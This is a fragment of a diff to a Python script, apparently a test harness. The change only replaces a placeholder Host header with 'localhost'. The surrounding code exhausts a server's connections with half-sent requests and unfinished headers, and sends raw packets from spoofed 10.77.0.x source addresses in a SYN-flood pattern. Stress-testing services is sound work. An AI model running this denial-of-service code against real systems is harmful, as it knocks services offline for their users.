@@ -42,11 +42,11 @@ def connect(text):
 
 kept, readers = [], []
 for _ in range(count):
-    s = connect(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
+    s = connect(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
     s.recv(4096)
     kept.append(s)
-    kept.append(connect(b"POST /v1development/profiles HTTP/1.1\r\nHost: x\r\n" + token + b"Content-Length: 1000000\r\n\r\nhalf"))
-    readers.append(connect(b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\n" + token + b"\r\n"))
+    kept.append(connect(b"POST /v1development/profiles HTTP/1.1\r\nHost: localhost\r\n" + token + b"Content-Length: 1000000\r\n\r\nhalf"))
+    readers.append(connect(b"GET " + path.encode() + b" HTTP/1.1\r\nHost: localhost\r\n" + token + b"\r\n"))
 raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) if syns else None
 for i in range(syns):
     raw.sendto(first_packet("10.77.0.%d" % (100 + i % 100)), (host, 0))
@@ -58,6 +58,6 @@ while True:
         if s in waiting:
             waiting.remove(s)
             if not waiting:
-                kept += [connect(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Half: ") for _ in range(count)]
+                kept += [connect(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Half: ") for _ in range(count)]
                 print("ready", flush=True)
     time.sleep(0.05)
